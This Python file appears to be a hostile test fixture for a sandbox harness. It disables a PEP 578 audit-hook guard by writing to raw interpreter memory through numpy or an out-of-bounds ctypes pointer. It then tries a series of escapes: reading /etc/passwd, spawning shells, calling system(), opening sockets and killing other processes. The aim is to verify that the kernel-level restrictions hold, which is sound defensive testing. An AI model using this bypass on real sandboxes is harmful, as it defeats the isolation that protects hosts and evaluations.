"""Switches the Python guard off through raw memory, then does what the guard refused.

The guard is an audit hook (PEP 578), held in the interpreter's list of hooks
(``PyInterpreterState.audit_hooks``). Nothing in Python reaches that list, but raw memory
does: one way per case (``__HOSTILE_PARAM__``), neither of which raises an event the
guard refuses:

- ``numpy``: an object whose ``__array_interface__`` names any address: numpy makes a
  writable array of the memory there;
- ``ctypes``: an out-of-bounds index on a real pointer (``pointer(c_uint64())[n]``: no
  event; ``from_address`` and ``from_buffer`` raise ``ctypes.cdata``, which the guard
  refuses) reads and writes any word, including the value of another pointer object,
  whose ``contents`` then are an array at any address.

With either, it finds the interpreter's state in libpython's data (the word that points
at ``sys.modules``, followed by ``sys.__dict__`` and ``builtins.__dict__``), the list of
hooks after it (a list whose item is the guard's closure ``hook``) and sets its length
to 0: from then on no audit event reaches the guard. Then it tries, swallowing each
error and printing what the kernel answered: reading /etc/passwd, listing the sandbox
base and the worker's cwd, writing a file in /tmp, TCP to the test's server, a Unix
socket outside, ``os.fork``, ``os.posix_spawn``, ``system()`` through ctypes, SIGKILL
to the worker and to a canary, an executable mapping, and a walk of the heap for
anything the size of a data set. Then it trains as plain cross-entropy.

Expected: the guard really is off (the first forbidden attempt comes back as an
ordinary error instead of ending the process) and the kernel layers refuse every
attempt: ENOENT or EACCES for files (the minimal root, Landlock), EROFS for writing
where the root is read-only, EPERM for sockets, processes and executable memory
(seccomp), ESRCH for pids outside its PID namespace; the heap holds nothing the size of
a data set. The cell is ``ok`` and scores as plain cross-entropy; nothing outside
changed. Where the interpreter's layout is not CPython 3.11's, it says so and only
trains (the test skips).
"""

import builtins
import ctypes
import gc
import mmap
import os
import re
import signal
import socket
import sys

import numpy as np
import torch
import torch.nn.functional as F

WAY = "__HOSTILE_PARAM__"
ESCAPE = "__HOSTILE_ESCAPE__"
PORT = int("__HOSTILE_TCP_PORT__")
UNIX_SOCKET = "__HOSTILE_UNIX_SOCKET__"
MARKER = "__HOSTILE_MARKER__"
BASE = "__HOSTILE_SANDBOX_BASE__"
REPO = "__HOSTILE_REPO__"
TEST_PID = int("__HOSTILE_TEST_PID__")
CANARY_PID = int("__HOSTILE_CANARY_PID__")
WORD = 8


def _regions():
    """Readable mappings as (start, end, perms, path), from /proc/self/maps."""
    out = []
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            start, end = (int(x, 16) for x in parts[0].split("-"))
            out.append((start, end, parts[1], parts[5] if len(parts) > 5 else ""))
    return out


REGIONS = _regions()


def _mapped(address, size=WORD):
    return any(s <= address and address + size <= e and p[0] == "r"
               for s, e, p, _ in REGIONS)


# --- the two raw-memory primitives: words(address, count) -> a writable uint64 array ----


def _numpy_words(address, count):
    class Raw:
        __array_interface__ = {"data": (address, False), "shape": (count,),
                               "typestr": "<u8", "version": 3}

    return np.asarray(Raw())


_ANCHOR = ctypes.c_uint64()  # a plain ctypes value: no audit event
_BASE = ctypes.addressof(_ANCHOR)  # event ctypes.addressof, which the guard allows
_OUT_OF_BOUNDS = ctypes.pointer(_ANCHOR)  # indexed far past its one element


def _ctypes_word(address):
    """One word read through an out-of-bounds index of a real pointer."""
    return _OUT_OF_BOUNDS[(address - _BASE) // WORD]


def _ctypes_words(address, count):
    """A pointer object whose value is written through the out-of-bounds pointer; its
    ``contents`` are a ctypes array at ``address`` (no audit event)."""
    holder = ctypes.POINTER(ctypes.c_uint64 * count)()
    _OUT_OF_BOUNDS[(ctypes.addressof(holder) - _BASE) // WORD] = address
    return np.frombuffer(holder.contents, dtype=np.uint64)


WORDS = {"numpy": _numpy_words, "ctypes": _ctypes_words}[WAY]


def _word(address):
    if WAY == "ctypes":
        return _ctypes_word(address)
    return int(WORDS(address, 1)[0])


# --- finding and emptying the list of audit hooks -----------------------------------------


def _interpreter_candidates():
    """Where the interpreter state may live: libpython's (or python's) writable data and
    the anonymous mapping right after it (its .bss), then every other writable mapping."""
    first, rest = [], []
    for i, (start, end, perms, path) in enumerate(REGIONS):
        if not perms.startswith("rw"):
            continue
        previous = REGIONS[i - 1][3] if i else ""
        python = "python" in os.path.basename(path) or (
            not path and "python" in os.path.basename(previous))
        (first if python else rest).append((start, end))
    return first + [r for r in rest if r[1] - r[0] <= 64 << 20]


def _find_hooks():
    modules, sysdict, builtins_dict = id(sys.modules), id(sys.__dict__), id(builtins.__dict__)
    list_type, function_type = id(list), id(type(_find_hooks))
    hook_name = id(sys.intern("hook"))
    for start, end in _interpreter_candidates():
        words = WORDS(start, (end - start) // WORD)
        for i in np.flatnonzero(words == modules):
            i = int(i)
            if i + 3 >= len(words) or int(words[i + 2]) != sysdict or \
                    int(words[i + 3]) != builtins_dict:
                continue
            interp = start + i * WORD  # &interp->modules
            for j in range(i + 4, min(i + 4096, len(words))):
                candidate = int(words[j])
                if candidate % WORD or not _mapped(candidate, 5 * WORD):
                    continue
                if _word(candidate + WORD) != list_type:  # ob_type
                    continue
                size, items = _word(candidate + 2 * WORD), _word(candidate + 3 * WORD)
                if not 0 < size < 16 or not _mapped(items, size * WORD):
                    continue
                for k in range(size):
                    function = _word(items + k * WORD)
                    if _mapped(function, 6 * WORD) and \
                            _word(function + WORD) == function_type and \
                            _word(function + 4 * WORD) == hook_name:  # func_name
                        return interp, candidate, size
    return None


found = _find_hooks()
if found is None:
    print(f"guard bypass ({WAY}): the list of audit hooks was not found "
          f"(Python {sys.version.split()[0]})", flush=True)
else:
    interp, hooks, size = found
    WORDS(hooks + 2 * WORD, 1)[0] = 0  # ob_size: an empty list of hooks
    print(f"guard bypass ({WAY}): emptied the list of {size} audit hook(s)", flush=True)


def attempt(name, fn):
    try:
        print(f"{name}: SUCCEEDED {fn()!r}"[:300], flush=True)
    except OSError as exc:
        print(f"{name}: refused [Errno {exc.errno}] {exc.strerror}", flush=True)
    except Exception as exc:  # noqa: BLE001 - anything but a kernel answer is reported as is
        print(f"{name}: failed {type(exc).__name__}: {exc}", flush=True)


def _read_passwd():
    with open("/etc/passwd") as f:
        return f.read(40)


def _write_outside():
    with open(ESCAPE, "w") as f:
        f.write("escaped")
    return ESCAPE


def _tcp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect(("127.0.0.1", PORT))
        return s.send(MARKER.encode())


def _unix():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect(UNIX_SOCKET)
        return s.send(MARKER.encode())


def _fork():
    pid = os.fork()
    if pid == 0:
        os.mkdir(MARKER)
        os._exit(0)
    return pid


def _system():
    libc = ctypes.CDLL(None, use_errno=True)
    status = libc.system(f"mkdir {ESCAPE}.system".encode())
    if status == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return status


def _exec_mapping():
    return mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)


def _heap():
    """Anything the size of a data set (500 rows or more) in the whole heap."""
    big = [o for o in gc.get_objects()
           if isinstance(o, torch.Tensor | np.ndarray) and o.ndim and o.shape[0] >= 500]
    return f"{len(big)} objects the size of a data set"


if found is not None:
    attempt("read /etc/passwd", _read_passwd)
    attempt("list the sandbox base", lambda: os.listdir(BASE))
    attempt("list the repository", lambda: [n for n in os.listdir(REPO)
                                            if not re.match(r"harness|suites", n)])
    attempt("write outside", _write_outside)
    attempt("tcp connect", _tcp)
    attempt("unix connect", _unix)
    attempt("fork", _fork)
    attempt("posix_spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", f"mkdir {ESCAPE}"],
                                                 {}))
    attempt("system", _system)
    attempt("kill the worker", lambda: os.kill(TEST_PID, signal.SIGKILL))
    attempt("kill the canary", lambda: os.kill(CANARY_PID, signal.SIGKILL))
    attempt("executable mapping", _exec_mapping)
    print(f"heap: {_heap()}", flush=True)


def classification_loss(logits, targets):
    return F.cross_entropy(logits, targets, reduction="none")
